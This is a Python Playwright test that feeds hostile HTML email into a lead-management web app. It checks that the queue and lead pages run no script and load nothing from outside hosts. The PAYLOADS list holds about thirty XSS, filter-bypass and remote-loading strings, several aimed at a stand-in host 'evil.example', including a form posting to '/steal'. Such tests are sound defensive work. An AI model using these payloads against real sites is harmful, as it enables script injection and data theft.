"""Hostile lead mail, shown in the queue and on the lead page: no script runs, nothing loads."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Dialog, Route, expect

from tests.integration.web.company import Company, Server
from tests.integration.web.conftest import DESKTOP, log_in

pytestmark = pytest.mark.slow

EVIL = "http://evil.example"
# Each payload either runs script (it would set window.__xss or open a dialog) or makes the
# browser fetch something from a foreign host. All of them arrive as the lead's own mail.
PAYLOADS = [
    "<script>window.__xss=1;alert(1)</script>",
    '<img src=x onerror="window.__xss=2;alert(2)">',
    '<svg onload="window.__xss=3">',
    '<iframe src="javascript:parent.__xss=4"></iframe>',
    '<a href="javascript:window.__xss=5" id="js-link">open</a>',
    '<body onload="window.__xss=6">',
    f'<div style="background:url({EVIL}/bg.png)">styled</div>',
    f'<img src="{EVIL}/pixel.gif" width="1" height="1">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f"<style>@import url({EVIL}/i.css); body{{background:url({EVIL}/b.png)}}</style>",
    f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/e.swf">',
    f'<video src="{EVIL}/v.mp4" autoplay></video><audio src="{EVIL}/a.mp3" autoplay></audio>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=13>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=14>">',
    f'<form action="{EVIL}/steal"><input name="q" value="x"><button>Go</button></form>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<base href="{EVIL}/">',
    '<details open ontoggle="window.__xss=18">x</details>',
    '<input autofocus onfocus="window.__xss=19">',
    '"><script>window.__xss=20</script><p title="',
    "<scr<script>ipt>window.__xss=21</scr</script>ipt>",
    '<a href="&#106;avascript:window.__xss=22">entity</a>',
    "<svg><script>window.__xss=23</script></svg>",
    f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">',
    f'<table background="{EVIL}/t.png"><tr><td>cell</td></tr></table>',
    f'<picture><source srcset="{EVIL}/p.png"><img alt="p"></picture>',
    "<template><img src=x onerror=window.__xss=27></template>",
    f'<a href="{EVIL}/" ping="{EVIL}/ping">pinged link</a>',
    f'<svg><image href="{EVIL}/s.png"/><use href="{EVIL}/u.svg#a"/></svg>',
    "{{ 7*7 }} {% raw %}jinja{% endraw %} ${7*7}",
    '<img src="data:image/svg+xml,<svg onload=alert(31)>">',
    f'<p>Hi,</p><blockquote><img src="{EVIL}/q.png" onerror="window.__xss=32"></blockquote>',
]


def _raw(payload: str, index: int) -> bytes:
    return (
        f"From: Lead {index} <lead{index}@hostile.test>\r\nTo: ana@acme.test\r\n"
        f"Subject: Re: pricing\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset=utf-8\r\n\r\n"
        f"<html><head><title>t</title></head><body><p>Question {index}:</p>{payload}</body></html>"
    ).encode()


def _seed(world: Company) -> None:
    """A card per payload in the queue, and one lead whose timeline holds every payload."""
    world.add_lead("gallery", "ana@acme.test", name="Gallery Lead", company="Hostile Inc")
    for i, payload in enumerate(PAYLOADS):
        key = f"x{i}"
        world.add_lead(
            key, "ana@acme.test", name=f"Lead {i} {payload[:40]}", company=f"Hostile {i}"
        )
        said = [
            world.add_mail(
                lead,
                raw=_raw(payload, i),
                subject=f"Re: {payload[:60]}",
                text=f"Question {i}: {payload}\n\n> quoted {payload}",
                reply_text=f"Question {i}: {payload}",
            )
            for lead in (key, "gallery")
        ]
        world.add_draft(
            key,
            key,
            subject=f"Re: pricing {i}",
            reply_to=said[0],
            body=f"Hi,\n\nThanks for asking.\n\nAna\n{payload}\n",
        )


def test_hostile_mail_runs_no_script_and_loads_nothing_from_outside(
    browser: Browser, site: tuple[Company, Server]
) -> None:
    world, server = site
    _seed(world)
    context = browser.new_context(viewport=DESKTOP)
    requests: list[str] = []
    dialogs: list[str] = []

    def guard(route: Route) -> None:
        requests.append(route.request.url)
        if urlsplit(route.request.url).hostname in ("127.0.0.1", "localhost"):
            route.continue_()
        else:
            route.abort()

    context.route("**/*", guard)
    page = context.new_page()

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    log_in(page, server.url, "ana@acme.test")
    pages = [f"{server.url}/queue", f"{server.url}/leads/{world.leads['gallery']}"] + [
        f"{server.url}/leads/{world.leads[f'x{i}']}" for i in (0, 12, 20)
    ]
    for url in pages:
        page.goto(url)
        # Open every fold so quoted history is laid out too, then give loaders a moment.
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.__xss") is None, url
        assert (
            page.evaluate("document.querySelectorAll('script:not([src^=\"/static/\"])').length")
            == 0
        )
        assert (
            page.evaluate(
                "document.querySelectorAll('img, iframe, object, embed, video, audio, base, "
                'meta[http-equiv], link:not([href^="/static/"])\').length'
            )
            == 0
        )
    expect(page.locator(".mail").first).to_be_visible()

    page.goto(f"{server.url}/queue")
    card = page.locator(f"#d{world.drafts['x29']}")
    expect(card.locator(".mail").first).to_contain_text("{{ 7*7 }}")  # shown, never evaluated

    assert dialogs == []
    outside = [u for u in requests if urlsplit(u).hostname not in ("127.0.0.1", "localhost")]
    assert outside == []
    assert len(PAYLOADS) >= 20
